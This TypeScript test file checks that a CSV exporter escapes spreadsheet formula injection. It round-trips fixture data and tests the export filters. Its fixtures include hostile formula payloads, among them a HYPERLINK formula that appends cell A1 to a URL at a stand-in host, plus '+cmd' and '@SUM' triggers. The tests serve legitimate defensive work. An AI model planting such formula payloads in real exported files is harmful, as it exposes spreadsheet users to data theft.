import { fc, test as propTest } from '@fast-check/vitest';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { epochMs } from '../model/calendar';
import type { Dataset } from '../model/schema';
import { createAppStore } from '../store/create-app-store';
import { smallDataset } from '../test/fixtures/small-dataset';
import {
  ACTOR_COLUMNS,
  BOM,
  EVENT_COLUMNS,
  FORMULA_TRIGGER,
  RELATION_COLUMNS,
  actorsCsv,
  actorsTable,
  escapeCsvCell,
  escapeFormulaCell,
  eventsCsv,
  eventsTable,
  relationsCsv,
  relationsTable,
  toCsv,
  type CsvCell,
} from './csv';

/** Reads CSV text back the way a careful importer does: BOM stripped, delimiter and line end pinned, no typing. */
function readCsv(text: string): string[][] {
  expect(text.startsWith(BOM)).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ',', newline: '\r\n', dynamicTyping: false });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** What a reader gets back for a cell: the escaped text, as a string. */
const asRead = (cell: CsvCell): string => {
  const escaped = escapeCsvCell(cell);
  return escaped === null ? '' : String(escaped);
};

const V09 = [
  '=HYPERLINK("http://x","y")',
  '+1',
  '-2',
  '@SUM(A1)',
  '\tfoo',
  '\rfoo',
  ' =1',
  '\u00a0=1',
  'a\n=1',
] as const;

describe('escapeFormulaCell', () => {
  it('prefixes every V09 cell', () => {
    expect(V09.map(escapeFormulaCell)).toEqual([
      `'=HYPERLINK("http://x","y")`,
      "'+1",
      "'-2",
      "'@SUM(A1)",
      "'\tfoo",
      "'\rfoo",
      "' =1",
      "'\u00a0=1",
      // The cell starts with "a": the line that could be read as a formula gets the quote.
      "a\n'=1",
    ]);
    for (const cell of V09) expect(FORMULA_TRIGGER.test(cell)).toBe(true);
  });

  it('covers NUL, other spaces, CR line ends and the full-width triggers', () => {
    expect(escapeFormulaCell('\0=1')).toBe("'\0=1");
    expect(escapeFormulaCell('\u3000\ufeff@x')).toBe("'\u3000\ufeff@x");
    expect(escapeFormulaCell('a\r=1')).toBe("a\r'=1");
    expect(escapeFormulaCell('a\r\n  -1')).toBe("a\r\n'  -1");
    expect(escapeFormulaCell('\r\n=1')).toBe("'\r\n'=1");
    expect(escapeFormulaCell('\uff1d1+1')).toBe("'\uff1d1+1");
    expect(escapeFormulaCell('x\n\uff0b1')).toBe("x\n'\uff0b1");
    expect(escapeFormulaCell('\uff20A1')).toBe("'\uff20A1");
    expect(escapeFormulaCell('\uff0d1')).toBe("'\uff0d1");
  });

  it('leaves ordinary text alone', () => {
    for (const cell of ['Anna Berg', 'a=b', '1+1', 'e-mail', 'x@y.z', '  spaced  ', 'line\nbreak', "'quoted", '']) {
      expect(escapeFormulaCell(cell)).toBe(cell);
      expect(FORMULA_TRIGGER.test(cell)).toBe(false);
    }
  });

  it('runs in linear time on long whitespace and line-break runs', () => {
    const hostile = ['\n'.repeat(200_000) + 'x', ' '.repeat(200_000) + 'x', '\n '.repeat(100_000) + 'x'];
    const t0 = performance.now();
    for (const s of hostile) {
      expect(FORMULA_TRIGGER.test(s)).toBe(false);
      expect(escapeFormulaCell(s)).toBe(s);
    }
    expect(performance.now() - t0).toBeLessThan(1000);
  });
});

describe('toCsv', () => {
  it('starts with a BOM, ends lines with CRLF and writes numbers as numbers', () => {
    const text = toCsv(['a', 'b', 'c', 'd'], [[-2, '-2', true, null]]);
    expect(text).toBe(`${BOM}a,b,c,d\r\n-2,'-2,true,`);
  });

  it('round-trips ordinary text: commas, quotes, line breaks, unicode', () => {
    const columns = ['id', 'text', 'n'];
    const rows: CsvCell[][] = [
      ['r1', 'Smith, Jones and "the others"', 1],
      ['r2', 'first line\nsecond line\r\nthird line', 2.5],
      ['r3', 'a😀b, é (e\u0301), שלום \u202eevil', 0],
      ['r4', '  padded  ', -3],
      ['r5', '', 1e21],
      ['r6', '"', null],
    ];
    expect(readCsv(toCsv(columns, rows))).toEqual([columns, ...rows.map((r) => r.map(asRead))]);
  });

  it('reads every V09 cell back with its quote', () => {
    const rows = V09.map((cell, i): CsvCell[] => [i, cell]);
    const read = readCsv(toCsv(['n', 'cell'], rows));
    expect(read.slice(1).map((r) => r[1])).toEqual(V09.map(escapeFormulaCell));
    expect(read.slice(1).map((r) => r[0])).toEqual(V09.map((_, i) => String(i)));
  });

  const TRICKY = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    '\0',
    ' ',
    '\u00a0',
    '\u3000',
    '\ufeff',
    '\uff1d',
    '\uff0b',
    '\uff0d',
    '\uff20',
    'a',
    '1',
    ',',
    '"',
    "'",
    '😀',
    'é',
  );
  const cellText = fc.oneof(fc.string({ unit: TRICKY, maxLength: 12 }), fc.string({ unit: 'grapheme', maxLength: 12 }));
  const cell: fc.Arbitrary<CsvCell> = fc.oneof(
    { weight: 6, arbitrary: cellText },
    { weight: 1, arbitrary: fc.integer({ min: -1000, max: 1000 }) },
    { weight: 1, arbitrary: fc.constant(null) },
  );
  const table = fc
    .integer({ min: 2, max: 4 })
    .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 8 }))
    .filter((rows) => rows.every((r) => r.length === rows[0]?.length));

  /** A trigger at the start of a line, after leading whitespace (TAB and CR count as whitespace here too). */
  const STARTS_WITH_TRIGGER = /^[\s\0]*[=+\-@\0\uff1d\uff0b\uff0d\uff20]/;

  propTest.prop([table])('no cell read back has a line a spreadsheet could evaluate', (rows) => {
    const width = rows[0]?.length ?? 2;
    const columns = Array.from({ length: width }, (_, i) => `c${i}`);
    const read = readCsv(toCsv(columns, rows));
    expect(read).toEqual([columns, ...rows.map((r) => r.map(asRead))]);
    rows.forEach((row, i) =>
      row.forEach((value, j) => {
        const back = read[i + 1]?.[j] ?? '';
        if (typeof value !== 'string') return;
        expect(FORMULA_TRIGGER.test(back)).toBe(false);
        // A cell that starts with TAB or CR gets its quote before that character.
        if (/^[\t\r]/.test(value)) expect(back.startsWith("'")).toBe(true);
        for (const line of back.split(/\r\n|\r|\n/)) expect(STARTS_WITH_TRIGGER.test(line)).toBe(false);
      }),
    );
  });

  propTest.prop([cellText])('escaping changes exactly the cells the RegExp flags, and only once', (s) => {
    const escaped = escapeFormulaCell(s);
    expect(escaped !== s).toBe(FORMULA_TRIGGER.test(s));
    expect(escapeFormulaCell(escaped)).toBe(escaped);
    // Only quotes are added.
    expect(escaped.replace(/'/g, '')).toBe(s.replace(/'/g, ''));
  });
});

const MS = (y: number, m: number, d: number): number => epochMs({ year: y, month: m, day: d });

describe('row builders', () => {
  it('exports every event by date then id, with the exact evidence sentence', () => {
    const state = createAppStore(smallDataset).getState();
    const t = eventsTable(state);
    expect(t.columns).toEqual(EVENT_COLUMNS);
    expect(t.rows).toHaveLength(smallDataset.events.length);
    const ids = t.rows.map((r) => r[0]);
    expect(ids.slice(0, 4)).toEqual(['e-war', 'e-fund', 'e-access', 'e-convoy']);
    expect(ids.at(-1)).toBe('e-plan');
    const docs = new Map(smallDataset.documents.map((d) => [d.id, d]));
    for (const row of t.rows) {
      const e = smallDataset.events.find((x) => x.id === row[0]);
      expect(e).toBeDefined();
      if (!e) continue;
      expect(row[8]).toBe(docs.get(e.docId)?.text.slice(e.evidence.start, e.evidence.end));
      expect(row.slice(9)).toEqual([e.docId, e.evidence.start, e.evidence.end]);
    }
    const meet = t.rows.find((r) => r[0] === 'e-meet');
    expect(meet?.slice(0, 8)).toEqual([
      'e-meet',
      '2022-03-28',
      'day',
      'text',
      '28 March 2022',
      'Berg meets Haddad in Geneva',
      'Anna Berg; Omar Haddad; Geneva',
      'Talks in Geneva',
    ]);
    expect(t.rows.find((r) => r[0] === 'e-plan')?.[1]).toBe('2023-01/2023-03');
  });

  it('follows the document filter and the selected actor', () => {
    const store = createAppStore(smallDataset);
    store.getState().setFilters({ docIds: ['doc-b'] });
    expect(new Set(eventsTable(store.getState()).rows.map((r) => r[9]))).toEqual(new Set(['doc-b']));
    expect(new Set(relationsTable(store.getState()).rows.map((r) => r[9]))).toEqual(new Set(['doc-b']));

    store.getState().resetFilters();
    store.getState().selectActor('a-wra');
    const s = store.getState();
    expect(eventsTable(s).rows.map((r) => r[0])).toEqual(['e-access', 'e-aid', 'e-plan']);
    // The actor and relation tables are not narrowed by a selection (same as the network table).
    expect(actorsTable(s).rows).toHaveLength(smallDataset.actors.length);
    expect(relationsTable(s).rows).toHaveLength(smallDataset.relations.length);
  });

  it('follows the kind and relation-type filters', () => {
    const store = createAppStore(smallDataset);
    store.getState().setFilters({ actorKinds: ['country'], relationTypes: ['attack', 'cooperate'] });
    const s = store.getState();
    expect(actorsTable(s).rows.map((r) => r[1])).toEqual(['Northland', 'Southland']);
    expect(relationsTable(s).rows.map((r) => r[0])).toEqual(['r-exchange', 'r-war']);
  });

  it('applies the time window to events (unless asked not to) and to relations', () => {
    const store = createAppStore(smallDataset);
    store.getState().setTimeWindow({ start: MS(2022, 1, 1), end: MS(2023, 1, 1) });
    const s = store.getState();
    const events = eventsTable(s).rows.map((r) => r[1]);
    expect(events.length).toBeGreaterThan(0);
    for (const date of events) expect(String(date).startsWith('2022')).toBe(true);
    expect(eventsTable(s, { withinTimeWindow: false }).rows).toHaveLength(smallDataset.events.length);
    for (const row of relationsTable(s).rows) expect(String(row[1]).startsWith('2022')).toBe(true);
    expect(relationsTable(s).rows.map((r) => r[0])).not.toContain('r-war');
  });

  it('counts mentions, documents and visible relations per actor, sorted by name', () => {
    const t = actorsTable(createAppStore(smallDataset).getState());
    expect(t.columns).toEqual(ACTOR_COLUMNS);
    expect(t.rows.map((r) => r[1])).toEqual([
      'Anna Berg',
      'Geneva',
      'Harbour Fund',
      'Northland',
      'Omar Haddad',
      'Red Harbour Coalition',
      'Southland',
      'World Relief Agency',
    ]);
    const berg = t.rows.find((r) => r[0] === 'a-berg');
    const bergMentions = smallDataset.mentions.filter((m) => m.actorId === 'a-berg');
    expect(berg).toEqual([
      'a-berg',
      'Anna Berg',
      'person',
      'Berg',
      bergMentions.length,
      new Set(bergMentions.map((m) => m.docId)).size,
      2,
    ]);
  });

  it('names both ends of each relation, with its date and evidence', () => {
    const t = relationsTable(createAppStore(smallDataset).getState());
    expect(t.columns).toEqual(RELATION_COLUMNS);
    expect(t.rows.map((r) => r[0])).toEqual([...smallDataset.relations.map((r) => r.id)].sort());
    const refuse = t.rows.find((r) => r[0] === 'r-refuse');
    expect(refuse?.slice(0, 7)).toEqual([
      'r-refuse',
      '2021-05-05',
      'support',
      'cooperation',
      'yes',
      'Omar Haddad',
      'Southland',
    ]);
    expect(t.rows.find((r) => r[0] === 'r-access')?.[1]).toBe('2019');
    expect(t.rows.find((r) => r[0] === 'r-criticize')?.[1]).toBe('');
  });

  it('writes files that read back to the same rows', () => {
    const store = createAppStore(smallDataset);
    store.getState().selectActor('a-southland');
    const s = store.getState();
    for (const [csv, table] of [
      [eventsCsv(s), eventsTable(s)],
      [actorsCsv(s), actorsTable(s)],
      [relationsCsv(s), relationsTable(s)],
    ] as const) {
      expect(readCsv(csv)).toEqual([[...table.columns], ...table.rows.map((r) => r.map(asRead))]);
    }
  });

  it('escapes hostile actor names in every export', () => {
    const hostile = '=HYPERLINK("http://x?"&A1,"click")';
    const dataset: Dataset = {
      ...smallDataset,
      actors: smallDataset.actors.map((a) =>
        a.id === 'a-berg' ? { ...a, name: hostile, aliases: ['+cmd', '-1+1'] } : a,
      ),
    };
    const s = createAppStore(dataset).getState();
    const actors = readCsv(actorsCsv(s));
    const berg = actors.find((r) => r[0] === 'a-berg');
    expect(berg?.[1]).toBe(`'${hostile}`);
    expect(berg?.[3]).toBe("'+cmd; -1+1");
    const events = readCsv(eventsCsv(s));
    expect(events.find((r) => r[0] === 'e-meet')?.[6]).toBe(`'${hostile}; Omar Haddad; Geneva`);
    const relations = readCsv(relationsCsv(s));
    expect(relations.find((r) => r[0] === 'r-meet')?.[5]).toBe(`'${hostile}`);
  });

  it('is deterministic', () => {
    const a = createAppStore(smallDataset).getState();
    const b = createAppStore({ ...smallDataset, events: [...smallDataset.events].reverse() }).getState();
    expect(eventsCsv(a)).toBe(eventsCsv(b));
  });
});

describe('toCsv edge cases', () => {
  it('writes only the header for an empty table', () => {
    expect(toCsv(['a', 'b'], [])).toBe(`${BOM}a,b`);
  });
});
